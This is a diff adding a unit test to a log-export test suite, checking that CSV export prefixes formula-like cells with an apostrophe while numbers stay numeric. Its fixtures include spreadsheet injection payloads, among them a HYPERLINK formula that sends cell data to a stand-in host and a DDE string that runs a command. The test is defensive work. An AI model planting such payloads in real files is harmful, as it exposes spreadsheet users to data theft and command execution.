@@ -107,6 +107,20 @@ describe('text exports', () => {
     expect(rows.every((r) => !('exchange' in r))).toBe(true);
   });
 
+  it('CSV neutralises cells a spreadsheet would run as a formula; numbers stay numbers', async () => {
+    const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\tlead tab', '\rlead cr'];
+    for (const [i, text] of formulas.entries()) {
+      store.enqueue(makeRecord({ correlationId: text, timestamp: `2026-03-03T00:00:0${i}.000Z`, model: text, errorMessage: text, cost: 1.25, inputTokens: 7 }));
+    }
+    await store.flush();
+    const result = await exportLog(job('csv', { filter: { since: '2026-03-03T00:00:00.000Z' } }));
+    const records = parse(readFileSync(result.path), { columns: true }) as Record<string, string>[];
+    expect(records.map((r) => r.model)).toEqual(formulas.map((f) => `'${f}`));
+    expect(records.map((r) => r.correlation_id)).toEqual(formulas.map((f) => `'${f}`));
+    expect(records.map((r) => r.error_message)).toEqual(formulas.map((f) => `'${f}`));
+    expect(records.map((r) => [r.cost, r.input_tokens])).toEqual(formulas.map(() => ['1.25', '7']));
+  });
+
   it('CSV round-trips commas, quotes, newlines and Unicode through csv-parse', async () => {
     const result = await exportLog(job('csv'));
     const records = parse(readFileSync(result.path), { columns: true, bom: false, relax_column_count: false }) as Record<string, string>[];
